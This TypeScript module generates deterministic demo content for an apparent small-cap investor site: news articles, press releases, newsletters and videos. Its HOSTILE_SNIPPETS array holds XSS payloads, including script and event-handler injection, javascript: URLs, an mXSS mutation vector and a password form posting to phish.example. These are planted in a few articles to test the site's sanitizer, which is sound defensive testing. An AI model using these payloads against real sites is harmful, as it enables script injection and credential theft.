/**
 * Demo content: two years of news about the universe's companies, a few
 * company releases (press releases filed with the companies' recent demo
 * 8-Ks), the weekly newsletter, the video library and the weekly sponsored
 * TV show.
 * Deterministic for a seed; article bodies are
 * real HTML (headings, lists, tables, images, links), and a few carry
 * hostile markup so the sanitizing on every path is exercised. The others
 * are written exactly as the sanitizer writes staff HTML back (its text
 * escaped, its pictures lazy, its outside links opening safely), so the
 * seed stores them as they come (a test holds them to it) and only the
 * hostile ones go through the sanitizer, whose cost was most of a seed's.
 */
import { addDays } from '../../lib/market-calendar.ts';
import { createRandom, type Random } from './random.ts';
import type { news, videos } from '../schema.ts';

export type NewsRow = typeof news.$inferInsert;
export type VideoRow = typeof videos.$inferInsert;

export interface ContentCompany {
  symbol: string;
  name: string;
  sectorName: string;
  sicCode: number;
  isClient: boolean;
  lastSale: number | null;
}

/** An analyst's rating as the company pages list it: the only thing an initiation story may report. */
export interface ContentRating {
  companySymbol: string;
  analystName: string;
  firmName: string;
  recommendation: string;
  /** YYYY-MM-DD, the day the story runs. */
  recommendationDate: string;
  priceTarget: number | null;
}

/** A demo 8-K a company release is filed with: the company page lists it, and the release links to it. */
export interface ContentFiling {
  accessionKey: string;
  companySymbol: string;
  filingType: string;
  rawTextLink: string;
  /** YYYY-MM-DD */
  dateAsOfChange: string;
}

export interface DemoContent {
  news: NewsRow[];
  /** The articles whose bodies carry hostile markup: the ones the sanitizer changes. */
  hostile: ReadonlySet<NewsRow>;
  videos: VideoRow[];
}

/** Text for generated HTML, escaped as an HTML serializer writes it (in text and in quoted attributes). */
const escapeHtml = (text: string) =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** A link off the site, as the sanitizer writes one: it opens in a new tab, safely. */
const outsideLink = (href: string, text: string) =>
  `<a href="${escapeHtml(href)}" target="_blank" rel="noopener noreferrer nofollow">${escapeHtml(text)}</a>`;

const NEWS_PER_DAY = 8;
const DAYS = 730;

/** Markup that must never run: kept in a few articles to prove every sanitizing step. */
export const HOSTILE_SNIPPETS = [
  '<script>document.body.dataset.pwned = "script"</script>',
  '<img src="/nope.png" onerror="document.body.dataset.pwned = \'onerror\'">',
  '<a href="javascript:document.body.dataset.pwned=\'href\'">Read the filing</a>',
  '<iframe src="javascript:parent.document.body.dataset.pwned=\'iframe\'"></iframe>',
  '<svg onload="document.body.dataset.pwned=\'svg\'"><circle r="4"></circle></svg>',
  '<p style="background:url(javascript:alert(1))" onmouseover="document.body.dataset.pwned=\'hover\'">Hover</p>',
  '<form action="https://phish.example/steal"><input name="password"></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror="document.body.dataset.pwned=\'mxss\'"></style></mglyph></table></mtext></math>',
];

const SOURCES = ['RedCap Newswire', 'Business Wire', 'GlobeNewswire', 'PR Newswire', 'Accesswire'];

interface Story {
  /** Headline and first paragraph, drawn from the same figures. */
  write: (c: ContentCompany, r: Random) => { title: string; lead: string };
  /** Only for some sectors (clinical news for life sciences). */
  sectors?: readonly string[];
}

const money = (r: Random, min: number, max: number) => `$${r.between(min, max).toFixed(1)} million`;
const quarter = (r: Random) => `${r.pick(['first', 'second', 'third', 'fourth'])} quarter`;
const title = (text: string) => text.replace(/\b([a-z])/g, (m) => m.toUpperCase());

const STORIES: readonly Story[] = [
  {
    write: (c, r) => {
      const q = quarter(r);
      return {
        title: `${c.name} Reports ${r.pick(['Record', 'Strong', 'Higher', 'Improved'])} ${title(q)} Revenue`,
        lead: `${c.name} (${c.symbol}) reported revenue of ${money(r, 4, 180)} for the ${q}, up ${r.int(3, 64)}% from a year earlier, and reaffirmed its full-year outlook.`,
      };
    },
  },
  {
    write: (c, r) => {
      const value = money(r, 2, 90);
      const kind = r.pick(['Contract', 'Order', 'Supply Agreement']);
      return {
        title: `${c.name} Wins ${value} ${kind}`,
        lead: `${c.name} (${c.symbol}) has been awarded a multi-year ${kind.toLowerCase()} valued at ${value}, its largest to date, with deliveries starting next ${r.pick(['quarter', 'year'])}.`,
      };
    },
  },
  {
    write: (c, r) => ({
      title: `${c.name} Announces ${r.pick(['Positive Topline Data', 'FDA Fast Track Designation', 'Phase 2 Enrollment Completion', 'IND Clearance'])}`,
      lead: `${c.name} (${c.symbol}) today announced a milestone in its lead program, with ${r.int(40, 420)} patients across ${r.int(8, 60)} sites and data expected to support the next regulatory step.`,
    }),
    sectors: ['Life Sciences'],
  },
  {
    write: (c, r) => {
      const value = money(r, 5, 60);
      return {
        title: `${c.name} Closes ${value} ${r.pick(['Registered Direct Offering', 'Private Placement', 'Credit Facility'])}`,
        lead: `${c.name} (${c.symbol}) has closed a financing of ${value}; proceeds fund ${r.pick(['growth', 'working capital', 'the product roadmap', 'expansion into new markets'])}.`,
      };
    },
  },
  {
    write: (c, r) => ({
      title: `${c.name} Launches ${r.pick(['Next-Generation Platform', 'New Product Line', 'Expanded Service Offering'])}`,
      lead: `${c.name} (${c.symbol}) introduced its newest offering, built on customer feedback and aimed at a larger share of its core market.`,
    }),
  },
  {
    write: (c) => ({
      title: `${c.name} to Present at the RedCap Virtual Small-Cap Conference`,
      lead: `Management of ${c.name} (${c.symbol}) will present and take investor questions live; a replay will be available afterwards.`,
    }),
  },
  {
    write: (c, r) => ({
      title: `${c.name} Appoints New ${r.pick(['Chief Financial Officer', 'Chief Operating Officer', 'Board Member', 'Chief Medical Officer'])}`,
      lead: `${c.name} (${c.symbol}) named an executive with ${r.int(12, 30)} years of experience to its leadership team, effective immediately.`,
    }),
  },
];

/** How often a story slot reports an analyst's initiation, when a rating was given that day. */
const INITIATION_SHARE = 1 / 8;

/** The story of a rating: the firm and analyst who gave it, the rating and its target, on its day. */
function initiationStory(c: ContentCompany, rating: ContentRating): { title: string; lead: string } {
  const target = rating.priceTarget === null ? '' : ` and a price target of $${rating.priceTarget.toFixed(2)}`;
  return {
    title: `${rating.firmName} Initiates Coverage of ${c.name} with ${rating.recommendation} Rating`,
    lead: `${rating.firmName} analyst ${rating.analystName} began covering ${c.name} (${c.symbol}) with a ${rating.recommendation} rating${target}.`,
  };
}

function articleBody(c: ContentCompany, lead: string, r: Random, coverPath: string): string {
  const revenue = r.between(5, 200);
  const growth = r.int(-10, 60);
  const rows = [
    ['Revenue', `$${revenue.toFixed(1)}M`, `${growth > 0 ? '+' : ''}${growth}%`],
    ['Gross margin', `${r.int(20, 75)}%`, `${r.int(-3, 6)} pts`],
    ['Cash and equivalents', `$${r.between(3, 120).toFixed(1)}M`, '—'],
  ];
  const name = escapeHtml(c.name);
  const cover = escapeHtml(coverPath.replace(/v=(\d+)/, (_, v: string) => `v=${Number(v) + 6}`));
  return [
    `<p>${escapeHtml(lead)}</p>`,
    `<figure><img src="${cover}" alt="${name}" width="1200" height="630" loading="lazy"><figcaption>${name} (${c.symbol})</figcaption></figure>`,
    `<h2>Highlights</h2>`,
    `<ul>${Array.from({ length: r.int(3, 5) }, (_, i) => `<li>${['Expanded customer base', 'Improved unit economics', 'Strengthened balance sheet', 'New distribution partners', 'Pipeline progress on schedule'][i]}</li>`).join('')}</ul>`,
    `<h2>Key figures</h2>`,
    `<table><thead><tr><th scope="col">Measure</th><th scope="col">Value</th><th scope="col">Change</th></tr></thead><tbody>${rows
      .map(([a, b, d]) => `<tr><td>${a}</td><td>${b}</td><td>${d}</td></tr>`)
      .join('')}</tbody></table>`,
    `<h3>Management commentary</h3>`,
    `<blockquote>“We executed on every priority we set for the period and enter the next one with momentum,” said the chief executive of ${name}.</blockquote>`,
    `<p>Read more on the <a href="/stocks/${c.symbol}">${c.symbol} company page</a> or in the company's ${outsideLink(`https://www.sec.gov/cgi-bin/browse-edgar?action=getcompany&CIK=${c.symbol}`, 'SEC filings')}.</p>`,
    `<h3>About ${name}</h3>`,
    `<p>${name} is a ${escapeHtml(c.sectorName.toLowerCase())} company listed in the United States. This article is demo content generated for demonstration.</p>`,
  ].join('\n');
}

/**
 * Company releases: how far back the demo 8-Ks they are filed with go, the share of those 8-Ks that
 * carry one (at least a few, so a small universe shows the mark too).
 */
const RELEASE_DAYS = 120;
const RELEASE_SHARE = 0.04;
const MIN_RELEASES = 3;

const CITIES = ['New York, NY', 'Boston, MA', 'Austin, TX', 'San Diego, CA', 'Denver, CO', 'Chicago, IL'];

/** A press release's headline, lead and highlights, and the items of the 8-K it is filed with. */
interface ReleaseStory {
  write: (c: ContentCompany, r: Random) => { title: string; lead: string; highlights: string[] };
  items: string[];
}

const RELEASE_STORIES: readonly ReleaseStory[] = [
  {
    items: ['2.02', '9.01'],
    write: (c, r) => {
      const q = quarter(r);
      const revenue = money(r, 4, 180);
      return {
        title: `${c.name} Reports ${title(q)} Financial Results`,
        lead: `${c.name} (${c.symbol}) today reported its financial results for the ${q}, with revenue of ${revenue}, up ${r.int(3, 64)}% from a year earlier.`,
        highlights: [`Revenue of ${revenue}`, `Gross margin of ${r.int(20, 75)}%`, 'Full-year outlook reaffirmed'],
      };
    },
  },
  {
    items: ['1.01', '7.01', '9.01'],
    write: (c, r) => {
      const value = money(r, 2, 90);
      return {
        title: `${c.name} Signs ${value} Multi-Year Supply Agreement`,
        lead: `${c.name} (${c.symbol}) today announced a multi-year supply agreement valued at ${value}, with deliveries starting next ${r.pick(['quarter', 'year'])}.`,
        highlights: ['Largest agreement in the company’s history', `Term of ${r.int(2, 6)} years`],
      };
    },
  },
  {
    items: ['5.02', '7.01', '9.01'],
    write: (c, r) => {
      const role = r.pick(['Chief Financial Officer', 'Chief Operating Officer', 'Chief Commercial Officer']);
      return {
        title: `${c.name} Names New ${role}`,
        lead: `${c.name} (${c.symbol}) today announced the appointment of a new ${role}, an executive with ${r.int(12, 30)} years of experience, effective immediately.`,
        highlights: [`${role} appointed`, 'Leadership team strengthened for the next stage of growth'],
      };
    },
  },
  {
    items: ['1.01', '3.02', '8.01', '9.01'],
    write: (c, r) => {
      const value = money(r, 5, 60);
      return {
        title: `${c.name} Announces ${value} Private Placement`,
        lead: `${c.name} (${c.symbol}) today announced that it has entered into a securities purchase agreement for a private placement of ${value}.`,
        highlights: [
          `Gross proceeds of ${value}`,
          `Proceeds fund ${r.pick(['growth', 'working capital', 'the product roadmap'])}`,
        ],
      };
    },
  },
  {
    items: ['8.01', '9.01'],
    write: (c, r) => ({
      title: `${c.name} Launches ${r.pick(['Next-Generation Platform', 'New Product Line', 'Expanded Service Offering'])}`,
      lead: `${c.name} (${c.symbol}) today announced the launch of its newest offering, built on customer feedback and aimed at a larger share of its core market.`,
      highlights: ['Available to customers now', 'Built on the company’s existing platform'],
    }),
  },
];

/** The day as a release's dateline writes it: 'April 16, 2025'. */
const datelineDay = (date: string) =>
  new Date(`${date}T12:00:00Z`).toLocaleDateString('en-US', {
    month: 'long',
    day: 'numeric',
    year: 'numeric',
    timeZone: 'UTC',
  });

/** A press release as companies write them, and as the sanitizer writes it back. */
function releaseBody(c: ContentCompany, date: string, lead: string, highlights: string[], r: Random): string {
  const name = escapeHtml(c.name);
  return [
    `<p>${escapeHtml(r.pick(CITIES))}, ${datelineDay(date)} – ${escapeHtml(lead)}</p>`,
    `<p><strong>Highlights</strong></p>`,
    `<ul>${highlights.map((h) => `<li>${escapeHtml(h)}</li>`).join('')}</ul>`,
    `<p>“This is an important step for ${name} and its shareholders,” said the chief executive of ${name}.</p>`,
    `<p><strong>About ${name}</strong></p>`,
    `<p>${name} is a ${escapeHtml(c.sectorName.toLowerCase())} company listed in the United States. This press release is demo content generated for demonstration; it was not filed with the SEC.</p>`,
  ].join('\n');
}

const NEWSLETTER_BENEFITS = ['Top performers of the week', 'CEO interview of the week', 'Upcoming webinars'];

function newsletterBody(week: string, picks: ContentCompany[], coverPath: string): string {
  return [
    `<p>Your weekly small-cap briefing for the week ending ${week}.</p>`,
    `<img src="${escapeHtml(coverPath)}" alt="Newsletter ${week}" width="1200" height="630" loading="lazy">`,
    `<h2>This week's picks</h2>`,
    `<ol>${picks.map((c) => `<li><a href="/stocks/${c.symbol}">${escapeHtml(c.name)} (${c.symbol})</a>: ${escapeHtml(c.sectorName)}</li>`).join('')}</ol>`,
    `<h2>Inside</h2>`,
    `<ul>${NEWSLETTER_BENEFITS.map((b) => `<li>${b}</li>`).join('')}</ul>`,
    `<p>Demo newsletter generated for demonstration.</p>`,
  ].join('\n');
}

/** Generated cover images (see the covers route): by company, by newsletter date, by video kind. */
const companyCover = (symbol: string, variant: number) => `/api/covers/company/${symbol}.svg?v=${variant}`;
const videoCover = (symbol: string, type: string) => `/api/covers/video/${symbol}.svg?type=${encodeURIComponent(type)}`;

const YOUTUBE_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
/** An id shaped like YouTube's (11 characters). */
export const youtubeId = (r: Random) => Array.from({ length: 11 }, () => r.pick([...YOUTUBE_ALPHABET])).join('');

/** Noon New York time on a date, as an instant; `minutes` spreads items over the day. */
const nyInstant = (date: string, minutes: number) =>
  new Date(new Date(`${date}T07:00:00-05:00`).getTime() + minutes * 60_000);

/**
 * `ratings` are the analyst ratings the company pages list: an article about an analyst initiating coverage
 * reports one of them, on its day, so the company's Analyst Reports show the analyst the news names.
 */
export function generateContent(
  seed: string,
  asOf: string,
  companies: readonly ContentCompany[],
  ratings: readonly ContentRating[],
  filings: readonly ContentFiling[] = [],
): DemoContent {
  const random = createRandom(`${seed}:content`);
  const bySymbol = new Map(companies.map((c) => [c.symbol, c]));
  const ratingsOn = new Map<string, ContentRating[]>();
  for (const rating of ratings) {
    if (!bySymbol.has(rating.companySymbol)) continue;
    const day = ratingsOn.get(rating.recommendationDate);
    if (day) day.push(rating);
    else ratingsOn.set(rating.recommendationDate, [rating]);
  }
  /** One of the day's ratings no story has reported yet. */
  const takeRating = (date: string, r: Random): ContentRating | null => {
    const day = ratingsOn.get(date);
    if (!day?.length) return null;
    return day.splice(r.int(0, day.length - 1), 1)[0]!;
  };
  const newsRows: NewsRow[] = [];
  const hostile = new Set<NewsRow>();
  const clients = companies.filter((c) => c.isClient);
  // Clients get more coverage, as on the real site.
  const pickCompany = (r: Random) => (clients.length && r.chance(0.18) ? r.pick(clients) : r.pick(companies));

  // About one weekday story per 500 companies, up to NEWS_PER_DAY, and two on weekend days.
  const weekdayNews = Math.max(1, Math.min(NEWS_PER_DAY, Math.round(companies.length / 500)));
  // A universe of fewer than 500 companies (a trial or a test) gets news in proportion, at least a story
  // every other weekday: its site stays quick to build, and its companies are not each in the news weekly.
  const smallRate = Math.max(0.5, companies.length / 500);
  const storiesOn = (weekend: boolean) => {
    if (companies.length >= 500) return weekend ? 2 : weekdayNews + random.int(0, 2);
    return random.chance(weekend ? smallRate / 2 : smallRate) ? 1 : 0;
  };
  for (let day = DAYS - 1; day >= 0; day--) {
    const date = addDays(asOf, -day);
    const weekday = new Date(`${date}T12:00:00Z`).getUTCDay();
    const perDay = storiesOn(weekday === 0 || weekday === 6);
    for (let i = 0; i < perDay; i++) {
      const r = random.fork(`news:${date}:${i}`);
      const rating = r.chance(INITIATION_SHARE) ? takeRating(date, r) : null;
      const company = rating ? bySymbol.get(rating.companySymbol)! : pickCompany(r);
      const choices = STORIES.filter((s) => !s.sectors || s.sectors.includes(company.sectorName));
      const cover = companyCover(company.symbol, r.int(0, 5));
      const { title, lead } = rating ? initiationStory(company, rating) : r.pick(choices).write(company, r);
      const attack = r.chance(0.01) ? r.pick(HOSTILE_SNIPPETS) : null;
      const body = articleBody(company, lead, r, cover) + (attack ? `\n${attack}` : '');
      const row: NewsRow = {
        title,
        summary: lead,
        description: body,
        thumbnail: cover,
        publishedAt: nyInstant(date, r.int(0, 11 * 60)),
        companySymbol: company.symbol,
        source: r.pick(SOURCES),
        url: null,
        rcNewsletter: false,
      };
      newsRows.push(row);
      if (attack) hostile.add(row);
    }
    if (weekday === 5) {
      const picks = Array.from({ length: 5 }, () => random.pick(companies));
      const stamp = date.replaceAll('-', '');
      newsRows.push({
        title: `RedCap Weekly: ${picks[0]!.name} and ${picks.length - 1} more small caps to watch`,
        summary: `Our picks for the week ending ${date}: ${picks.map((c) => c.symbol).join(', ')}.`,
        description: newsletterBody(date, picks, `/api/covers/newsletter/${stamp}.svg`),
        thumbnail: `/api/covers/newsletter/${stamp}.svg`,
        publishedAt: nyInstant(date, 9 * 60),
        companySymbol: picks[0]!.symbol,
        source: 'RedCap Weekly',
        url: null,
        rcNewsletter: true,
      });
    }
  }

  // Company releases, each filed with one of the companies' recent demo 8-Ks, published when it was filed.
  const releases = createRandom(`${seed}:company-releases`);
  const pool = filings
    .filter(
      (f) =>
        f.filingType === '8-K' && f.dateAsOfChange >= addDays(asOf, -RELEASE_DAYS) && bySymbol.has(f.companySymbol),
    )
    .sort((a, b) => (a.accessionKey < b.accessionKey ? -1 : 1));
  const releaseCount = Math.min(pool.length, Math.max(MIN_RELEASES, Math.round(pool.length * RELEASE_SHARE)));
  for (let i = 0; i < releaseCount; i++) {
    const filing = pool.splice(releases.int(0, pool.length - 1), 1)[0]!;
    const company = bySymbol.get(filing.companySymbol)!;
    const r = releases.fork(`release:${filing.accessionKey}`);
    const story = r.pick(RELEASE_STORIES);
    const { title, lead, highlights } = story.write(company, r);
    newsRows.push({
      title,
      summary: lead,
      description: releaseBody(company, filing.dateAsOfChange, lead, highlights, r),
      thumbnail: companyCover(company.symbol, r.int(0, 5)),
      // Before the open or after the close, when companies put out their news.
      publishedAt: nyInstant(filing.dateAsOfChange, r.chance(0.5) ? r.int(0, 90) : r.int(9 * 60 + 5, 10 * 60)),
      companySymbol: company.symbol,
      source: company.name,
      url: filing.rawTextLink,
      rcNewsletter: false,
      kind: 'company-release',
      accession: filing.accessionKey,
      filingForm: filing.filingType,
      filingItems: story.items,
    });
  }

  const videoRows: VideoRow[] = [];
  const videoCompanies = [...clients, ...companies.filter((c) => !c.isClient)].slice(0, 260);
  for (const [i, company] of videoCompanies.entries()) {
    const r = random.fork(`video:${company.symbol}`);
    const kinds: ('Interview' | 'Overview' | 'Presentation' | 'Webinar' | 'Commercial')[] = company.isClient
      ? ['Interview', 'Overview', 'Presentation']
      : [r.pick(['Interview', 'Overview', 'Presentation', 'Webinar', 'Commercial'] as const)];
    for (const type of kinds) {
      const published = nyInstant(addDays(asOf, -r.int(1, DAYS - 1)), r.int(0, 600));
      videoRows.push({
        name: `${company.name}: ${type === 'Interview' ? 'CEO Interview' : type === 'Overview' ? 'Company Overview' : type === 'Commercial' ? 'In 30 Seconds' : `${type} for Investors`}`,
        description: `${type === 'Interview' ? 'The chief executive of' : 'An introduction to'} ${company.name} (${company.symbol}), a ${company.sectorName.toLowerCase()} company: strategy, recent results, catalysts ahead and questions from investors. Demo video generated for demonstration.`,
        youtubeId: youtubeId(r),
        // A few cards have no thumbnail of their own and use the video host's.
        thumbnailUrl: r.chance(0.06) ? null : videoCover(company.symbol, type),
        type,
        published: r.chance(0.03) ? null : published,
        companySymbol: company.symbol,
        sicCode: company.sicCode,
        exclusive: r.chance(0.08),
        disabled: r.chance(0.02),
        thirtysecs: type === 'Commercial',
        videoFeatured: company.isClient && type === 'Interview' && i % 3 === 0,
      });
    }
  }
  // The sponsored TV show: one episode a week, Saturdays 7PM EST.
  for (let week = 0; week < 26; week++) {
    let date = addDays(asOf, -7 * week);
    while (new Date(`${date}T12:00:00Z`).getUTCDay() !== 6) date = addDays(date, -1);
    const featured = random.pick(companies);
    videoRows.push({
      name: `RedCap Small-Cap TV: Episode ${260 - week}`,
      description: `This week: ${featured.name} (${featured.symbol}) and the small caps moving the market. Airs Saturdays at 7PM EST. Demo episode generated for demonstration.`,
      youtubeId: youtubeId(random),
      thumbnailUrl: videoCover(featured.symbol, 'TV Show'),
      type: 'TV Show',
      published: new Date(`${date}T19:00:00-05:00`),
      companySymbol: featured.symbol,
      sicCode: featured.sicCode,
      videoFeatured: week === 0,
    });
  }

  return { news: newsRows, hostile, videos: videoRows };
}
